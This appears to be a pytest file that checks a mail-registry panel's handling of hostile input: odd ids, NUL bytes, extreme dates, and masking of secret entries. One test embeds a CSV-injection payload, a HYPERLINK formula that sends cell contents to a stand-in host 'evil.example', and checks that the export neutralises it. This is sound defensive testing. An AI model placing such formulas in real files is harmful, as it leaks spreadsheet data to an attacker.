"""Odd and hostile input to the panel gets a clear answer, never a 500: ids written in
other digits or far too long, dates no register holds, NUL bytes (PostgreSQL refuses
them), formulas hidden in a perihal; and an SR/R entry says nothing about its content."""

from __future__ import annotations

import csv
import html
import io
import json
from urllib.parse import quote

from tests.support.gateway import RunningGateway, wait_for
from tests.support.mail import DOMAIN, letter
from tests.support.panel import signed_in
from tests.support.queries import settled


def send(gw: RunningGateway, body: str, subject: str = "Surat") -> None:
    sender = "tu@bkpsdm.jatengprov.go.id"
    raw = letter(to=f"setda@{DOMAIN}", subject=subject, body=body, sender=sender)
    with gw.smtp() as client:
        client.sendmail(sender, [f"setda@{DOMAIN}"], raw)
    wait_for(lambda: settled(gw.app))


ODD_IDS = ("²", "١", "0", "-1", "1" * 5000, "2147483648", "1e3", "%00", "%20" + "1")


def test_odd_ids_are_simply_not_found(gateway: RunningGateway) -> None:
    admin = signed_in(gateway)
    for odd in ODD_IDS:
        for path in ("/naskah/{}", "/api/v1/naskah/{}", "/karantina/{}/eml", "/kotak-keluar/{}"):
            answer = admin.get(path.format(quote(odd, safe="%")))
            assert answer.status == 404, (path, odd[:20], answer.status)
        for path in ("/?sebelum={}", "/api/v1/naskah?sebelum={}"):
            answer = admin.get(path.format(quote(odd, safe="%")))
            assert answer.status == 200, (path, odd[:20], answer.status)


def test_odd_filters_are_ignored_not_errors(gateway: RunningGateway) -> None:
    send(gateway, "Nomor: 005/1/2026\nPerihal: Undangan Rapat\n")
    admin = signed_in(gateway)
    queries = [
        "dari=0001-01-01",
        "sampai=9999-12-31",
        "dari=0001-01-01&sampai=9999-12-31",
        "year=" + quote("²⁰²⁶"),
        "year=" + "9" * 5000,
        "q=rapat%00",
        "pengirim=bkpsdm%00x",
        "unit=SETDA%00",
        "jenis=%00",
        "status=%00",
        "sifat=R%00",
        "q=%01%02%7f",
    ]
    for query in queries:
        for path in ("/", "/api/v1/naskah", "/agenda.csv", "/agenda/cetak"):
            answer = admin.get(f"{path}?{query}")
            assert answer.status == 200, (path, query[:40], answer.status, answer.body[:200])
    found = json.loads(admin.get("/api/v1/naskah?q=rapat%00").body)["items"]
    assert [item["perihal"] for item in found] == ["Undangan Rapat"]  # the NUL is dropped


def test_a_nul_in_a_posted_reason_or_comment_is_not_a_500(gateway: RunningGateway) -> None:
    admin = signed_in(gateway)
    admin.get("/karantina")
    answer = admin.post("/karantina/1", {"aksi": "buang\x00", "alasan": "spam\x00"})
    assert answer.status == 404  # no such quarantined message: a plain answer
    admin.get("/aturan/ubah")
    answer = admin.post("/aturan/uji", {"yaml": "rules: []\n", "komentar": "uji\x00coba"})
    assert answer.status == 200 and "uji\x00coba" not in answer.body


def test_a_secret_entry_keeps_nothing_that_tells_its_content(gateway: RunningGateway) -> None:
    send(
        gateway,
        "Nomor: 800/9/2026\nSifat: Rahasia\nKlasifikasi: 800.1.11.7\nPerihal: Mutasi\n",
        subject="Mutasi",
    )
    admin = signed_in(gateway)
    item = json.loads(admin.get("/api/v1/naskah").body)["items"][0]
    assert item["masked"] is True and item["sifat"]["keamanan"] == "R"
    assert item["klasifikasi"] in (None, "(rahasia)") and item["jenis"] in (None, "(rahasia)")
    assert item["message_id"] is None and item["sha256"] is None and item["recipients"] == []
    detail = json.loads(admin.get(f"/api/v1/naskah/{item['id']}").body)
    assert detail["message_id"] is None and detail["sha256"] is None
    table = list(csv.DictReader(io.StringIO(admin.get("/agenda.csv").body)))
    assert table[0]["message_id"] == "" and table[0]["sha256"] == ""
    assert "800.1.11.7" not in admin.get("/agenda.csv").body


def test_the_csv_export_never_carries_a_formula(gateway: RunningGateway) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    send(gateway, f"Nomor: +62/1/2026\nPerihal: {formula}\n", subject=formula)
    admin = signed_in(gateway)
    table = list(csv.DictReader(io.StringIO(admin.get("/agenda.csv").body)))
    assert table[0]["perihal"] == "'" + formula
    assert table[0]["nomor_surat"] == "'+62/1/2026"


def test_a_nul_inside_posted_yaml_is_refused_not_stored(gateway: RunningGateway) -> None:
    admin = signed_in(gateway)
    admin.get("/aturan/ubah")
    rules = (
        'rules:\n- name: "x"\n  priority: 1\n  when: {subject: "a"}\n'
        '  then: [{set_jenis: "und\\0angan"}]\n'
    )
    refused = admin.post("/aturan/uji", {"yaml": rules})
    assert refused.status == 422 and "karakter kendali" in refused.body
    org = admin.get("/organisasi/ubah").body
    text = html.unescape(org[org.index("<textarea") : org.index("</textarea>")].split(">", 1)[1])
    broken = text.replace("Sekretaris Daerah", '"Sekretaris\\0Daerah"', 1)
    answer = admin.post("/organisasi/uji", {"yaml": broken})
    assert answer.status == 422 and "karakter kendali" in answer.body


def test_odd_letter_keys_on_the_audit_page_are_not_errors(gateway: RunningGateway) -> None:
    admin = signed_in(gateway)
    for key in ("%C2%B2", "99999999999", "0", "-1", "%00"):
        assert admin.get(f"/jejak?naskah={key}").status == 200, key
